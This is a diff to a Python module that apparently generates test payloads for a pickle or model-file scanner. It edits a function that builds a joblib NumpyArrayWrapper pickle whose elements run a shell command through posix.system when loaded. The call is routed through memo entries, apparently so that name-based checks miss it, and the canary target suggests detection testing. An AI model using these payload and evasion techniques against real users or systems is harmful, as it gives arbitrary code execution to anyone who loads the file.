@@ -310,26 +310,26 @@ def _(canary: Path) -> bytes:
 # -- what joblib takes for objects, and safetensors for a header -----------------------------------
 
 _DTYPES: dict[str, tuple[Any, ...]] = {
-    "whose flags are no number": (3, "|", None, None, None, 6, 1, True),
-    "whose flags are not the last": (4, "|", None, None, None, 6, 1, 11, {}),
-    "whose flags tell of objects": (3, "|", None, None, None, 6, 1, 1),
+    "whose flags are no number": (3, "|", None, None, None, 1, 1, True),
+    "whose flags are not the last": (4, "|", None, None, None, 1, 1, 11, {}),
+    "whose flags tell of objects": (3, "|", None, None, None, 1, 1, 1),
 }
 
 
 def _in_joblibs_way(canary: Path, state: tuple[Any, ...]) -> bytes:
     """An array whose elements joblib unpickles, behind names that the memo spells for others."""
-    dtype = with_state(call(named("numpy", "dtype"), "V6", False, True), state)
-    described = {
-        "subclass": named("numpy", "ndarray"),
-        "shape": (20,),
-        "order": "C",
-        "dtype": dtype,
-        "allow_mmap": False,
-    }
+    dtype = with_state(call(named("numpy", "dtype"), "V1", False, True), state)
     wrapper = Opcodes(named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81")
     memo = push("heapq") + b"\x940" + push("dtype") + b"\x940"
     names = push("posix") + b"\x940" + push("system") + b"\x940h\x00h\x01\x93"
     elements = pickle_of(call(Opcodes(names), shell(canary)))
+    described = {
+        "subclass": named("numpy", "ndarray"),
+        "shape": (len(elements),),
+        "order": "C",
+        "dtype": dtype,
+        "allow_mmap": False,
+    }
     return b"\x80\x04" + memo + with_state(wrapper, described) + elements + b"."
 
 
